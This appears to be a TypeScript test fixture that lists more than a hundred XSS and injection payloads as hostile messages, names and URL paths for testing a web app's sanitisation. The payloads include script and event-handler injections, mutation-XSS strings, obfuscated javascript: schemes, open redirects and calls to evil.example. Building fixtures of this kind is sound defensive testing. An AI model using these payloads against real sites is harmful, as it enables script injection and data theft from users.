/** What each would do if it ran: ask, tell `window`, and call home. */
const js = 'alert(1);window.pwned=1;fetch(`https://evil.example/x`)'
const tags = [
  `<script>${js}</script>`,
  '<script src=https://evil.example/x.js></script>',
  `<img src=x onerror="${js}">`,
  '<img src=https://evil.example/pixel.png>',
  `<svg onload="${js}">`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  `<body onload="${js}"><details open ontoggle="${js}"><video src=x onerror="${js}"><marquee onstart="${js}">`,
  `<input autofocus onfocus="${js}"><select autofocus onfocus="${js}"><textarea autofocus onfocus="${js}">`,
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
  `<a href="javascript:${js}">x</a>`,
  `<button formaction="javascript:${js}">x</button><form action="javascript:${js}"><input type=submit></form>`,
  `</script><script>${js}</script>`,
  `--><script>${js}</script><!--`,
  `]]><script>${js}</script>`,
  `</textarea><script>${js}</script></title><script>${js}</script></style><script>${js}</script>`,
  `"><script>${js}</script>`,
  `'><script>${js}</script>`,
  `" onmouseover="${js}" x="`,
  `' onfocus='${js}' autofocus x='`,
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '\u2028<script>alert(1)</script>\u2029',
  '<scr\0ipt>alert(1)</script>'.replace('\0', '\u200b'),
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)&#60;/script&#62;',
]
const schemes = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&#58;alert(1)',
  ],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&colon;alert(1)',
    '%6aavascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
  ],
  ...[
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:https://a.b/x',
    'file:///etc/passwd',
  ],
  ...[
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    'filesystem:https://a.b/x',
    'view-source:https://a.b',
    'intent://a#Intent;end',
    'javascript://a.b/%0aalert(1)',
  ],
]
const code = [
  'js',
  'html',
  'css',
  'json',
  'python',
  '"><script>',
  'js" onclick="alert(1)',
  '../../x',
  'x'.repeat(300),
]

/** More than a hundred messages, each of which would like to be more than words. */
export const hostileMessages: string[] = [
  ...tags,
  ...schemes.flatMap((url) => [`[link](${url})`, `[link](<${url}>)`, `![image](${url})`, `<${url}>`]),
  ...schemes.slice(0, 8).map((url) => `[x]: ${url}\n\n[x] and [link][x]`),
  ...code.map(
    (language) =>
      `\`\`\`${language}\n</code></pre><script>${js}</script><img src=x onerror=alert(1)>\n\`\`\``,
  ),
  ...tags.slice(0, 12).flatMap((tag) => [`**${tag}**`, `> - ${tag}`, `[${tag}](https://a.b)`, `\`${tag}\``]),
  ...[
    'https://a.b/"onmouseover="alert(1)',
    "https://a.b/'onmouseover='alert(1)",
    'a@b.co"onmouseover="alert(1)',
    'https://a.b/<script>alert(1)</script>',
  ],
]

/** For what is one line: names of people and rooms, topics. */
export const hostileNames = tags
  .map((tag) => tag.replaceAll(/[\u2028\u2029]/g, '').slice(0, 60))
  .filter((name) => name.trim() !== '')

export const hostileAddresses: string[] = [
  ...tags.slice(0, 24).map((tag) => `/r/${encodeURIComponent(tag)}`),
  ...tags.slice(0, 24).map((tag) => `/login?next=${encodeURIComponent(tag)}`),
  ...schemes.map((url) => `/login?next=${encodeURIComponent(url)}`),
  ...[
    '/?x=</script><script>alert(1)</script>',
    '/members.asp?SF=%22;}alert(223344);function%20x(){v%20=%22:',
    '/signup?username="><script>alert(1)</script>',
  ],
  ...[
    '/invite/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '/no/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
    '/api/auth/error?error=<script>alert(1)</script>',
    '/api/auth/signin?callbackUrl=javascript:alert(1)',
  ],
]
